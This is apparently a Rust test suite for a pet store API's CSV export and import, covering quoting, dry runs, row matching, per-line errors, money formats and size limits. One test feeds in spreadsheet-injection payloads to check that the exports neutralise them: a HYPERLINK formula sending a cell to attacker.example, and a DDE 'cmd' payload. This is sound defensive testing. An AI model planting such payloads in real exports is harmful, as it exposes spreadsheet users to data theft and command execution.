//! CSV out and in: the pets and stock history exports, and the all-or-nothing import with
//! its dry run, matching by id, sku or barcode, and errors by line and field.

use reqwest::Method;
use serde_json::{json, Value};

use crate::support::{assert_error, body, header, TestApp};

const HEADER: &str = "id,sku,barcode,name,category,status,price,quantity,reorderPoint,\
                      supplier,cost,reorderQuantity,taxRate";

async fn import(app: &TestApp, csv: &str, dry_run: bool) -> reqwest::Response {
    let path = if dry_run {
        "/store/import/pets?dryRun=true"
    } else {
        "/store/import/pets"
    };
    app.send_raw(Method::POST, path, Some("text/csv"), csv.to_owned())
        .await
}

/// A pet in `category` with no status and these codes, for rows to match.
async fn coded_pet(
    app: &TestApp,
    name: &str,
    category: i64,
    sku: Option<&str>,
    barcode: Option<&str>,
) -> i64 {
    let mut pet = app.pet(name, category).no_status();
    if let Some(sku) = sku {
        pet = pet.with("sku", sku);
    }
    if let Some(barcode) = barcode {
        pet = pet.with("barcode", barcode);
    }
    pet.create().await
}

/// An import's answer with these counts and no errors.
fn counted(created: u64, updated: u64, unchanged: u64) -> Value {
    json!({ "created": created, "updated": updated, "unchanged": unchanged, "errors": [] })
}

/// The line and field of each error of a refused import, in order.
fn error_places(failure: &Value) -> Vec<(i64, &str)> {
    failure["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["line"].as_i64().unwrap(), e["field"].as_str().unwrap()))
        .collect()
}

/// An inventory item's `quantity` and `reorderPoint`.
fn stock_and_reorder_point(item: &Value) -> (Value, Value) {
    (item["quantity"].clone(), item["reorderPoint"].clone())
}

async fn export(app: &TestApp) -> String {
    let res = app.get("/store/export/pets.csv").await;
    assert_eq!(res.status(), 200);
    assert!(header(&res, "content-type").starts_with("text/csv"));
    assert_eq!(header(&res, "x-stability"), "beta");
    res.text().await.unwrap()
}

#[tokio::test]
async fn the_pets_export_is_rfc_4180_with_quoting_and_empty_cells() {
    let app = TestApp::spawn().await;
    let cat = app.category("Fish, cold water").await;
    let goldie = app
        .pet("Goldie \"the great\"", cat)
        .with("sku", "F-1")
        .with("barcode", "4006381333931")
        .with("price", 450)
        .stock(30)
        .reorder_point(10)
        .create()
        .await;
    let plain = app.pet("Nemo", cat).no_status().create().await;

    assert_eq!(
        export(&app).await,
        format!(
            "{HEADER}\r\n\
             {goldie},F-1,4006381333931,\"Goldie \"\"the great\"\"\",\"Fish, cold water\",available,450,30,10,,,,\r\n\
             {plain},,,Nemo,\"Fish, cold water\",,,0,,,,,\r\n"
        )
    );
}

#[tokio::test]
async fn an_import_creates_updates_and_counts_what_it_leaves_unchanged() {
    let app = TestApp::spawn().await;
    let fish = app.category("Fish").await;
    let kept = coded_pet(&app, "Koi", fish, Some("KOI"), None).await;
    let by_barcode = coded_pet(&app, "Guppy", fish, None, Some("96385074")).await;
    let csv = format!(
        "name,category,sku,barcode,price,quantity,reorderPoint,status,id\n\
         Koi,Fish,KOI,,,,,,{kept}\n\
         Guppy (blue),Fish,,96385074,199,40,10,available,\n\
         \"Rex, the dog\",Dogs,DOG-1,,12000,2,,available,\n"
    );
    let res = import(&app, &csv, false).await;
    assert_eq!(res.status(), 200);
    assert_eq!(body(res).await, counted(1, 1, 1));

    let guppy = app.get_json(&format!("/pets?ids={by_barcode}")).await;
    assert_eq!(guppy[0]["name"], "Guppy (blue)");
    assert_eq!(guppy[0]["price"], 199);
    let item = app
        .get_json(&format!("/store/inventory/{by_barcode}"))
        .await;
    assert_eq!(stock_and_reorder_point(&item), (json!(40), json!(10)));
    let history = app
        .get_json(&format!("/store/inventory/{by_barcode}/adjustments"))
        .await;
    assert_eq!(history[0]["source"], "import");
    assert_eq!(history[0]["delta"], 40);

    // The new pet, in a category the import created.
    let rex = app.get_json("/pets?sku=DOG-1").await;
    assert_eq!(rex[0]["name"], "Rex, the dog");
    let dogs = app.get_json("/categories?q=Dogs").await;
    assert_eq!(rex[0]["categoryId"], dogs[0]["id"]);
    assert_eq!(
        app.get_json(&format!("/store/inventory/{}", rex[0]["id"]))
            .await["quantity"],
        2
    );

    // The export imports back as it is: everything unchanged.
    let again = export(&app).await;
    let res = import(&app, &again, false).await;
    assert_eq!(body(res).await, counted(0, 0, 3));
}

#[tokio::test]
async fn a_dry_run_counts_and_changes_nothing() {
    let app = TestApp::spawn().await;
    let before = export(&app).await;
    let res = import(
        &app,
        "name,category,quantity\nNemo,Fish,3\nDory,Fish,1\n",
        true,
    )
    .await;
    assert_eq!(res.status(), 200);
    assert_eq!(body(res).await, counted(2, 0, 0));
    assert_eq!(export(&app).await, before);
    assert_eq!(app.get_json("/categories").await, json!([]));
}

#[tokio::test]
async fn one_bad_row_rolls_the_whole_import_back_with_errors_by_line_and_field() {
    let app = TestApp::spawn().await;
    let fish = app.category("Fish").await;
    let koi = coded_pet(&app, "Koi", fish, Some("KOI"), None).await;
    let before = export(&app).await;
    let csv = "name,category,sku,barcode,price,quantity\n\
               Nemo,Fish,NEMO,,100,3\n\
               Koi,Fish,KOI,,250,9\n\
               \"Dory\nthe blue\",Fish,,4006381333932,,\n\
               Bubbles,Fish,NEMO,,-5,\n\
               Bubbles 2,Fish,nemo,,,\n";
    for dry_run in [false, true] {
        let res = import(&app, csv, dry_run).await;
        assert_eq!(res.status(), 422);
        let failure = body(res).await;
        assert_eq!(failure["code"], "validation_failed");
        assert_eq!(failure["status"], 422);
        assert!(failure["message"]
            .as_str()
            .unwrap()
            .contains("nothing was imported"));
        let errors = error_places(&failure);
        // Line 4 holds a quoted name over two lines (which a name may not have), so Bubbles
        // is on line 6; Bubbles 2 takes the SKU line 2 has.
        let expected = [(4, "barcode"), (4, "name"), (6, "price"), (7, "sku")];
        assert_eq!(errors, expected, "{failure}");
    }
    assert_eq!(export(&app).await, before, "nothing was changed");
    assert_eq!(app.stock(koi).await, 0);
}

#[tokio::test]
async fn rows_are_matched_by_id_then_sku_then_barcode() {
    let app = TestApp::spawn().await;
    let fish = app.category("Fish").await;
    let a = coded_pet(&app, "A", fish, Some("A-1"), Some("96385074")).await;
    let b = coded_pet(&app, "B", fish, Some("B-1"), None).await;
    // By id: the row renames pet A and gives it a new sku.
    let res = import(
        &app,
        &format!("id,name,category,sku,barcode\n{a},A2,Fish,A-2,96385074\n"),
        false,
    )
    .await;
    assert_eq!(body(res).await["updated"], 1);
    // By sku (any case), then by barcode.
    let res = import(
        &app,
        "name,category,sku,barcode\nB2,Fish,b-1,\nA3,Fish,,96385074\n",
        false,
    )
    .await;
    assert_eq!(body(res).await, counted(0, 2, 0));
    let names = app.get_json(&format!("/pets?ids={a},{b}")).await;
    assert_eq!(
        (names[0]["name"].clone(), names[1]["name"].clone()),
        (json!("A3"), json!("B2"))
    );

    // An unknown id, two rows for one pet, and a code another pet holds are errors (line 4
    // is pet B, matched by its sku).
    let csv = format!(
        "id,name,category,sku\n999999,X,Fish,\n{a},A,Fish,\n,A again,Fish,b-1\n{a},A,Fish,B-1\n"
    );
    let failure = body(import(&app, &csv, false).await).await;
    assert_eq!(
        error_places(&failure),
        [(2, "id"), (5, "id"), (5, "sku")],
        "{failure}"
    );
}

#[tokio::test]
async fn the_header_must_name_known_columns_including_name_and_category() {
    let app = TestApp::spawn().await;
    let failure = body(import(&app, "name,colour\nRex,brown\n", true).await).await;
    assert_eq!(
        failure["errors"],
        json!([
            { "line": 1, "field": "colour", "message": failure["errors"][0]["message"] },
            { "line": 1, "field": "category", "message": "is a required column" }
        ])
    );
    let res = import(&app, "", false).await;
    assert_eq!(body(res).await, counted(0, 0, 0));
}

#[tokio::test]
async fn the_import_takes_only_csv_up_to_5_mib_and_needs_the_staff_role() {
    let app = TestApp::spawn().await;
    let res = app
        .send_raw(
            Method::POST,
            "/store/import/pets",
            Some("application/json"),
            "{}",
        )
        .await;
    assert_error(res, 415, "unsupported_media_type").await;
    let mut big = String::from("name,category\n");
    while big.len() <= 5 * 1024 * 1024 {
        big.push_str("A goldfish with a rather long name to fill the file,Fish\n");
    }
    let res = import(&app, &big, true).await;
    assert_error(res, 413, "payload_too_large").await;
    // Just under the limit is read whole (and is one big dry run).
    let mut fits = String::from("name,category\n");
    let row = "Goldfish,Fish\n";
    while fits.len() + row.len() <= 5 * 1024 * 1024 {
        fits.push_str(row);
    }
    let res = import(&app, &fits, true).await;
    assert_eq!(res.status(), 200);
    assert!(body(res).await["created"].as_u64().unwrap() > 300_000);
    let pos = app.key("pos", "business").await;
    let res = app
        .request_as(&pos, Method::POST, "/store/import/pets")
        .header("content-type", "text/csv")
        .body("name,category\nRex,Dogs\n")
        .send()
        .await
        .unwrap();
    assert_error(res, 403, "forbidden").await;
}

#[tokio::test]
async fn the_stock_history_exports_as_csv_by_local_day() {
    let app = TestApp::spawn().await;
    let cat = app.category("Fish").await;
    let pet = app.pet_with_stock("Goldie", cat, 5).await;
    app.send_json(
        Method::POST,
        &format!("/store/inventory/{pet}/adjustments"),
        json!({ "delta": -1, "reason": "died, sadly" }),
    )
    .await;
    let res = app.get("/store/export/stock-changes.csv").await;
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(
        lines[0],
        "id,petId,delta,quantityAfter,reason,source,orderId,keyName,at"
    );
    assert!(
        lines[1].starts_with(&format!("1,{pet},5,5,,set,,admin,")),
        "{text}"
    );
    assert!(
        lines[2].starts_with(&format!("2,{pet},-1,4,\"died, sadly\",adjustment,,admin,")),
        "{text}"
    );
    assert_eq!(lines.len(), 4);

    let res = app
        .get("/store/export/stock-changes.csv?from=2000-01-01&to=2000-01-02")
        .await;
    assert_eq!(
        res.text().await.unwrap(),
        "id,petId,delta,quantityAfter,reason,source,orderId,keyName,at\r\n"
    );
    assert_error(
        app.get("/store/export/stock-changes.csv?from=2000-13-01")
            .await,
        400,
        "bad_request",
    )
    .await;
    assert_error(
        app.get("/store/export/pets.csv?x=1").await,
        400,
        "bad_request",
    )
    .await;
}

#[tokio::test]
async fn a_single_bad_row_among_good_ones_leaves_the_store_as_it_was() {
    let app = TestApp::spawn().await;
    let before = export(&app).await;
    let csv =
        "name,category,quantity\nNemo,Fish,3\nDory,Fish,1\nBruce,Sharks,lots\nMarlin,Fish,2\n";
    let res = import(&app, csv, false).await;
    assert_eq!(res.status(), 422);
    let failure = body(res).await;
    assert_eq!(failure["errors"].as_array().unwrap().len(), 1, "{failure}");
    assert_eq!(error_places(&failure), [(4, "quantity")]);
    assert_eq!(export(&app).await, before);
    assert_eq!(app.get_json("/categories").await, json!([]));
}

#[tokio::test]
async fn a_column_the_file_does_not_have_leaves_that_field_as_it_is() {
    let app = TestApp::spawn().await;
    let fish = app.category("Fish").await;
    let id = app
        .pet("Guppy", fish)
        .with("sku", "G-1")
        .with("barcode", "96385074")
        .with("price", 299)
        .stock(6)
        .reorder_point(8)
        .create()
        .await;
    // Only a new price, matched by barcode: the status, SKU, stock and reorder point stay.
    let res = import(
        &app,
        "barcode,name,category,price\n96385074,Guppy,Fish,320\n",
        false,
    )
    .await;
    assert_eq!(body(res).await, counted(0, 1, 0));
    let pet = app.get_json(&format!("/pets?ids={id}")).await;
    assert_eq!(
        pet[0],
        json!({ "id": id, "name": "Guppy", "categoryId": fish, "status": "available", "sku": "G-1", "barcode": "96385074", "price": 320 })
    );
    let item = app.get_json(&format!("/store/inventory/{id}")).await;
    assert_eq!(stock_and_reorder_point(&item), (json!(6), json!(8)));
    // An empty cell in a column the file has means none.
    let res = import(
        &app,
        "barcode,name,category,price,status\n96385074,Guppy,Fish,,\n",
        false,
    )
    .await;
    assert_eq!(body(res).await["updated"], 1);
    let pet = app.get_json(&format!("/pets?ids={id}")).await;
    assert!(
        pet[0].get("price").is_none() && pet[0].get("status").is_none(),
        "{pet}"
    );
}

#[tokio::test]
async fn reimporting_a_large_catalogue_with_every_price_changed_saves_them_all() {
    let app = TestApp::spawn().await;
    // Enough pets that changing all of them rewrites far more than a hundred pages of the
    // store in one request.
    let catalogue = |price: u32| -> String {
        let rows: String = (0..5000)
            .map(|n| format!("SKU-{n:05},Pet number {n},Fish,{}\n", price + n))
            .collect();
        format!("sku,name,category,price\n{rows}")
    };
    let res = import(&app, &catalogue(100), false).await;
    assert_eq!(res.status(), 200);
    let res = import(&app, &catalogue(200), false).await;
    assert_eq!(res.status(), 200);
    assert_eq!(body(res).await, counted(0, 5000, 0));
    let last = app.get_json("/pets?sku=SKU-04999").await;
    assert_eq!(last[0]["price"], json!(5199), "{last}");
}

/// The import of `csv` with a query (`?money=decimal&dryRun=true`, say).
async fn import_with(app: &TestApp, query: &str, csv: &str) -> reqwest::Response {
    app.send_raw(
        Method::POST,
        &format!("/store/import/pets{query}"),
        Some("text/csv"),
        csv.to_owned(),
    )
    .await
}

/// The price of the pet called `name`.
async fn price_of(app: &TestApp, name: &str) -> serde_json::Value {
    let pets = app.get_json("/pets?limit=100").await;
    pets.as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap_or_else(|| panic!("no pet called {name}: {pets}"))["price"]
        .clone()
}

#[tokio::test]
async fn money_decimal_writes_and_reads_prices_in_the_currency_s_major_unit() {
    let app = TestApp::spawn().await;
    let dogs = app.category("Dogs").await;
    for (name, price) in [
        ("Beagle", json!(27000)),
        ("Pug", json!(450)),
        ("Mutt", json!(null)),
    ] {
        app.pet(name, dogs)
            .no_status()
            .with("price", price)
            .create()
            .await;
    }
    let res = app.get("/store/export/pets.csv?money=decimal").await;
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    let prices: Vec<&str> = text
        .split("\r\n")
        .skip(1)
        .filter(|l| !l.is_empty())
        .map(|l| l.split(',').nth(6).unwrap())
        .collect();
    assert_eq!(prices, ["270.00", "4.50", ""], "{text}");
    let minor = app
        .get("/store/export/pets.csv")
        .await
        .text()
        .await
        .unwrap();
    assert!(
        minor.contains(",27000,"),
        "without it, minor units as in 1.1: {minor}"
    );

    // As a shop writes them: whole, one decimal, two, and a comma in a quoted cell.
    let csv = "name,category,price\nCollie,Dogs,27\nBoxer,Dogs,27.5\nHusky,Dogs,27.50\nCorgi,Dogs,\"6,50\"\n";
    let res = import_with(&app, "?money=decimal", csv).await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    for (name, minor) in [
        ("Collie", 2700),
        ("Boxer", 2750),
        ("Husky", 2750),
        ("Corgi", 650),
    ] {
        assert_eq!(price_of(&app, name).await, json!(minor), "{name}");
    }

    // More decimals than the currency has is that line's error; nothing is imported.
    let csv = "name,category,price\nDingo,Dogs,6.00\nAkita,Dogs,6.005\nLab,Dogs,six\n";
    let res = import_with(&app, "?money=decimal", csv).await;
    assert_eq!(res.status(), 422);
    let failure = body(res).await;
    let errors = failure["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 2, "{failure}");
    assert_eq!(
        (errors[0]["line"].as_i64(), errors[0]["field"].as_str()),
        (Some(3), Some("price"))
    );
    assert!(
        errors[0]["message"]
            .as_str()
            .unwrap()
            .contains("too many decimal places"),
        "{failure}"
    );
    assert_eq!(
        (errors[1]["line"].as_i64(), errors[1]["field"].as_str()),
        (Some(4), Some("price"))
    );
    assert!(
        errors[1]["message"]
            .as_str()
            .unwrap()
            .contains("such as 27.50"),
        "{failure}"
    );
    assert!(app
        .get_json("/pets?limit=100")
        .await
        .as_array()
        .unwrap()
        .iter()
        .all(|p| p["name"] != "Dingo"));

    // Without it, money stays in minor units: "6.00" is refused and says what unit it wants.
    let res = import_with(&app, "", "name,category,price\nDingo,Dogs,6.00\n").await;
    assert_eq!(res.status(), 422);
    assert!(body(res).await["errors"][0]["message"]
        .as_str()
        .unwrap()
        .contains("cents"));

    // A currency without decimals (yen): whole amounts only, written without a point.
    let res = app
        .send_json(
            Method::PATCH,
            "/store/profile",
            json!({ "currency": "JPY" }),
        )
        .await;
    assert_eq!(res.status(), 200);
    let text = app
        .get("/store/export/pets.csv?money=decimal")
        .await
        .text()
        .await
        .unwrap();
    assert!(text.contains(",27000,"), "{text}");
    let res = import_with(
        &app,
        "?money=decimal&dryRun=true",
        "name,category,price\nShiba,Dogs,450.5\n",
    )
    .await;
    assert_eq!(res.status(), 422);
    assert!(body(res).await["errors"][0]["message"]
        .as_str()
        .unwrap()
        .contains("no decimal places"));
    let res = import_with(
        &app,
        "?money=decimal&dryRun=true",
        "name,category,price\nShiba,Dogs,450\n",
    )
    .await;
    assert_eq!(res.status(), 200);

    for path in [
        "/store/export/pets.csv?money=cents",
        "/store/export/stock-changes.csv?money=Decimal",
    ] {
        assert_error(app.get(path).await, 400, "bad_request").await;
    }
    assert_error(
        import_with(&app, "?money=yes", "name,category\nA,Dogs\n").await,
        400,
        "bad_request",
    )
    .await;
    let res = app
        .get("/store/export/stock-changes.csv?money=decimal")
        .await;
    assert_eq!(
        res.status(),
        200,
        "the history takes it too (it has no money column yet)"
    );
}

#[tokio::test]
async fn cells_a_spreadsheet_would_run_are_exported_as_text_and_import_back_as_they_were() {
    let app = TestApp::spawn().await;
    let link = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click for details\")";
    let dde = "+cmd|' /C calc'!A0";
    let cat = app.category(dde).await;
    let pet = app
        .pet(link, cat)
        .no_status()
        .with("sku", "-5")
        .with("price", 100)
        .create()
        .await;
    let plain = app.pet_with_stock("'=already quoted", cat, 2).await;
    let (_, key) = app
        .key_with(json!({ "name": "@SUM(A1)", "role": "staff", "plan": "business" }))
        .await;
    let res = app
        .request_as(
            &key,
            Method::POST,
            &format!("/store/inventory/{pet}/adjustments"),
        )
        .json(&json!({ "delta": 3, "reason": "-2+3 found" }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);

    let pets = export(&app).await;
    assert!(pets.contains(",'-5,,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click for details\"\")\",'+cmd|' /C calc'!A0,"), "{pets}");
    assert!(
        pets.contains(&format!("{plain},,,''=already quoted,")),
        "{pets}"
    );
    let history = app
        .get("/store/export/stock-changes.csv")
        .await
        .text()
        .await
        .unwrap();
    assert!(
        history.contains(",'-2+3 found,adjustment,,'@SUM(A1),"),
        "{history}"
    );
    assert!(
        history.contains(&format!(",{pet},3,3,")),
        "the numbers are not touched: {history}"
    );
    for line in pets.lines().chain(history.lines()) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a cell a spreadsheet would run: {cell:?} in {line:?}"
            );
        }
    }

    // The export imports back as it was: nothing changes, and the names keep their text.
    let res = import(&app, &pets, false).await;
    assert_eq!(res.status(), 200);
    let summary = body(res).await;
    assert_eq!(summary["unchanged"], 2, "{summary}");
    assert_eq!(summary["updated"], 0, "{summary}");
    let listed = app.get_json(&format!("/pets?ids={pet},{plain}")).await;
    assert_eq!(listed[0]["name"], link);
    assert_eq!(listed[0]["sku"], "-5");
    assert_eq!(listed[1]["name"], "'=already quoted");
    assert_eq!(app.get_json("/categories").await[0]["name"], dde);
}

#[tokio::test]
async fn an_import_error_repeats_at_most_forty_characters_of_a_bad_cell() {
    let app = TestApp::spawn().await;
    app.category("Dogs").await;
    let huge = "\u{7f}".repeat(400_000);
    let csv = format!("name,category,quantity,price\nRex,Dogs,{huge},{huge}\n");
    let res = import(&app, &csv, true).await;
    assert_eq!(res.status(), 422);
    let text = res.text().await.unwrap();
    assert!(
        text.len() < 2_000,
        "a {} byte answer to a bad cell",
        text.len()
    );
    let failure: serde_json::Value = serde_json::from_str(&text).unwrap();
    let message = failure["errors"][0]["message"].as_str().unwrap();
    assert!(
        message.contains(&format!("{:?}", "\u{7f}".repeat(40))),
        "{message}"
    );
    assert!(message.contains("399960 more characters"), "{message}");
}

#[tokio::test]
async fn an_export_longer_than_one_chunk_lists_every_pet_once_in_order() {
    let app = TestApp::spawn().await;
    let mut csv = String::from("name,category,quantity\n");
    for i in 0..1_234 {
        csv.push_str(&format!("Guppy {i},Fish,{}\n", i % 7 + 1));
    }
    assert_eq!(import(&app, &csv, false).await.status(), 200);
    let pets = export(&app).await;
    let ids: Vec<i64> = pets
        .lines()
        .skip(1)
        .map(|l| l.split(',').next().unwrap().parse().unwrap())
        .collect();
    assert_eq!(ids, (1..=1_234).collect::<Vec<i64>>());
    let history = app
        .get("/store/export/stock-changes.csv")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(history.lines().count(), 1 + 1_234);
}

#[tokio::test]
async fn the_stockroom_columns_export_and_import_back_and_old_files_leave_them_alone() {
    let app = TestApp::spawn().await;
    let res = app
        .post("/store/suppliers", json!({ "name": "Acme Aquatics" }))
        .await;
    let acme = body(res).await["id"].as_i64().unwrap();
    let cat = app.category("Fish").await;
    let guppy = app
        .pet("Guppy", cat)
        .no_status()
        .with("supplierId", acme)
        .with("cost", 120)
        .with("reorderQuantity", 24)
        .with("taxRate", 700)
        .create()
        .await;
    let res = app.get("/store/export/pets.csv?money=decimal").await;
    let text = res.text().await.unwrap();
    assert!(
        text.ends_with(&format!(
            "{guppy},,,Guppy,Fish,,,0,,Acme Aquatics,1.20,24,700\r\n"
        )),
        "{text}"
    );
    // A file without the new columns changes the name and keeps the rest.
    let res = import(
        &app,
        &format!("id,name,category\n{guppy},Fancy guppy,Fish\n"),
        false,
    )
    .await;
    assert_eq!(res.status(), 200);
    let pet = &app.get_json(&format!("/pets?ids={guppy}")).await[0];
    assert_eq!(pet["name"], "Fancy guppy");
    assert_eq!(
        (
            &pet["supplierId"],
            &pet["cost"],
            &pet["reorderQuantity"],
            &pet["taxRate"]
        ),
        (&json!(acme), &json!(120), &json!(24), &json!(700))
    );
    // A new supplier's name makes the supplier; decimal money reads the cost; empty clears.
    let csv = format!(
        "id,name,category,supplier,cost,reorderQuantity,taxRate\n\
         {guppy},Fancy guppy,Fish,Birdseed Ltd,\"2,50\",,\n\
         ,Tetra,Fish,acme aquatics,0.80,12,0\n"
    );
    let res = app
        .send_raw(
            Method::POST,
            "/store/import/pets?money=decimal",
            Some("text/csv"),
            csv,
        )
        .await;
    assert_eq!(res.status(), 200);
    let summary = body(res).await;
    assert_eq!(
        (&summary["created"], &summary["updated"]),
        (&json!(1), &json!(1))
    );
    let suppliers = app.get_json("/store/suppliers").await;
    assert_eq!(suppliers.as_array().unwrap().len(), 2, "{suppliers}");
    let birdseed = suppliers[1]["id"].clone();
    assert_eq!(suppliers[1]["name"], "Birdseed Ltd");
    let pet = &app.get_json(&format!("/pets?ids={guppy}")).await[0];
    assert_eq!((&pet["supplierId"], &pet["cost"]), (&birdseed, &json!(250)));
    assert!(
        pet.get("reorderQuantity").is_none() && pet.get("taxRate").is_none(),
        "{pet}"
    );
    let tetra = &app.get_json("/pets?q=tetra").await[0];
    assert_eq!(
        (
            &tetra["supplierId"],
            &tetra["cost"],
            &tetra["reorderQuantity"],
            &tetra["taxRate"]
        ),
        (&json!(acme), &json!(80), &json!(12), &json!(0))
    );
    // Bad cells are errors of their line and field; nothing changes.
    let res = import(
        &app,
        "name,category,cost,reorderQuantity\nRex,Dogs,-1,0\n",
        false,
    )
    .await;
    assert_eq!(res.status(), 422);
    let errors = body(res).await["errors"].clone();
    let fields: Vec<_> = errors
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].clone())
        .collect();
    assert_eq!(fields, [json!("cost"), json!("reorderQuantity")]);
}
